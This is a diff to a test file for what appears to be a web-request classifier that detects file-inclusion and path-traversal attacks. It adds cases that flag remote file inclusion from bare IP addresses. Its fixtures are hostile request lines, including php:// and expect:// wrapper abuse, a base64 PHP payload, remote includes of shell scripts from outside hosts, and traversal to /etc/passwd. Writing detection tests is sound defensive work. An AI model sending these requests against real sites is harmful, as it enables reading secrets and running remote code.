@@ -53,7 +53,14 @@ const exploits: Case[] = [
   ['php:// wrapper', { request: 'GET /index.php?page=php://filter/read=convert.base64-encode/resource=config HTTP/1.1' }, 'file-inclusion', true],
   ['expect:// wrapper', { request: 'GET /index.php?file=expect%3A%2F%2Fid HTTP/1.1' }, 'file-inclusion', true],
   ['data:// wrapper', { request: 'GET /?inc=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg== HTTP/1.1' }, 'file-inclusion', true],
-  ['remote file inclusion', { request: 'GET /index.php?page=http://198.51.100.9/shell.txt? HTTP/1.1', status: 404 }, 'file-inclusion', false],
+  // A text file on a bare IP address, cut off by `?`, in an include parameter: an exploit on its own.
+  ['remote file inclusion', { request: 'GET /index.php?page=http://198.51.100.9/shell.txt? HTTP/1.1', status: 404 }, 'file-inclusion', true],
+  [
+    'remote file inclusion of a named host',
+    { request: 'GET /index.php?page=http://bad.example.net/shell.txt? HTTP/1.1', status: 404 },
+    'file-inclusion',
+    false,
+  ],
   ['/proc/self/environ', { request: 'GET /index.php?view=../../../../proc/self/environ HTTP/1.1' }, 'path-traversal', true],
   ['overlong UTF-8 traversal', { request: 'GET /..%c0%af..%c0%af..%c0%afetc/passwd HTTP/1.1', status: 400 }, 'path-traversal', true],
   ['Tomcat /..;/ bypass', { request: 'GET /app/..;/manager/html HTTP/1.1', status: 404 }, 'path-traversal', true],
@@ -191,6 +198,32 @@ describe('remote file inclusion on any parameter', () => {
 
   it('keeps the known include parameters, whatever the URL looks like', () => {
     assert.deepEqual(fileInclusion('GET /index.php?page=https://bad.example.net/a HTTP/1.1'), ['remote-file-inclusion']);
+  });
+
+  it('a known include parameter naming a script on a bare IP address is an exploit on its own (alerts at once)', () => {
+    const at = (request: string) => classifier.classify(record({ request, status: 200 }));
+    for (const request of [
+      'GET /index.php?page=http://203.0.113.50/sh.txt? HTTP/1.1',
+      'GET /index.php?file=ftp://198.51.100.9:21/r57.txt HTTP/1.1',
+      'GET /main.php?include=http%3A%2F%2F192.0.2.44%2Fbot.txt HTTP/1.1',
+      'GET /index.php?inc=http://192.0.2.44/x.php%00 HTTP/1.1',
+    ]) {
+      const c = at(request);
+      assert.deepEqual(
+        c.labels.map((l) => l.rule.id),
+        ['remote-file-inclusion-ip'],
+        request,
+      );
+      assert.equal(c.immediate?.rule.id, 'remote-file-inclusion-ip', request);
+    }
+    for (const request of [
+      'GET /index.php?page=https://www.example.com/about HTTP/1.1',
+      'GET /preview?url=http://203.0.113.5/ HTTP/1.1',
+      'GET /index.php?page=http://203.0.113.5.example.com/a.txt? HTTP/1.1',
+      'GET /pdfjs/web/viewer.html?file=http://192.168.1.10/docs/report.pdf HTTP/1.1',
+    ]) {
+      assert.equal(at(request).immediate, null, request);
+    }
   });
 
   const redirects: [name: string, request: string][] = [
